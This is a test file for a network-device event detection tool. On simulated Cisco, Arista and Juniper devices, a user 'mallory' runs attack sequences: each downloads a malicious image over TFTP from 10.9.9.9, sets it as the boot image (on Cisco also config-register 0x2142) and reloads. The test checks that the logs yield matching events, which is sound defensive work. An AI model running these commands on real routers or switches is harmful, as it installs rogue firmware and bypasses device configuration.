import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { readEvents } from '../events/index.js';
import type { DeviceEvent } from '../model/event.js';
import { startFleet, type Fleet } from './fleet.js';
import { syntheticFleet } from './synthetic.js';

const NOW = new Date('2026-12-04T20:01:02.123Z');

/** The simulator's logs are what the event sources were written for: every step of an attack becomes an event. */
describe('simulated logs through the event sources', () => {
  let dir: string;
  let fleet: Fleet;
  const { devices, catalog } = syntheticFleet(5);
  for (const d of devices) d.timezone = 'Europe/Berlin';
  const name = (p: string): string => devices.find((d) => d.platform === p)?.name ?? '';

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'ig-sim-events-'));
    fleet = await startFleet(devices, catalog, { logDir: dir, clock: () => NOW });
    for (const p of ['cisco_ios', 'cisco_xe']) {
      fleet.run(name(p), 'mallory', 'copy tftp://10.9.9.9/evil.bin flash:\nconfigure terminal\nno boot system\nboot system flash:evil.bin\nconfig-register 0x2142\nend\nreload');
    }
    fleet.run(name('cisco_nxos'), 'mallory', 'copy tftp://10.9.9.9/evil.bin bootflash:\nconfigure terminal\nboot nxos bootflash:evil.bin\nend\nreload');
    fleet.run(name('arista_eos'), 'mallory', 'copy tftp://10.9.9.9/evil.swi flash:\nconfigure terminal\nboot system flash:evil.swi\nend\nreload');
    fleet.run(name('juniper_junos'), 'mallory', 'file copy tftp://10.9.9.9/evil.tgz /var/tmp/\nrequest system software add /var/tmp/evil.tgz\nrequest system reboot');
  });
  afterAll(async () => {
    await fleet.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('yields transfer, boot change, config register and reload events for each device, at the right time, by the right user', async () => {
    const events: DeviceEvent[] = [];
    const gen = readEvents([fleet.logs.syslog, fleet.logs.tacacs, fleet.logs.tftp], { devices, year: 2026 });
    for (let r = await gen.next(); !r.done; r = await gen.next()) events.push(r.value);
    const kinds = (device: string): string[] => [...new Set(events.filter((e) => e.device === device).map((e) => e.kind))].sort();
    for (const p of ['cisco_ios', 'cisco_xe']) {
      expect(kinds(name(p))).toEqual(expect.arrayContaining(['boot-change', 'config-register', 'reload', 'transfer']));
    }
    for (const p of ['cisco_nxos', 'arista_eos']) expect(kinds(name(p))).toEqual(expect.arrayContaining(['boot-change', 'reload', 'transfer']));
    expect(kinds(name('juniper_junos'))).toEqual(expect.arrayContaining(['install', 'reload', 'transfer']));
    for (const e of events.filter((x) => x.kind !== 'other' && x.actor !== null)) {
      expect({ device: e.device, actor: e.actor }).toEqual({ device: e.device, actor: 'mallory' });
    }
    // device stamps are Berlin time, receiver stamps UTC: both must land on the same instant
    for (const e of events) expect({ raw: e.raw, ts: e.ts.slice(0, 19) }).toEqual({ raw: e.raw, ts: '2026-12-04T20:01:02' });
  });
});
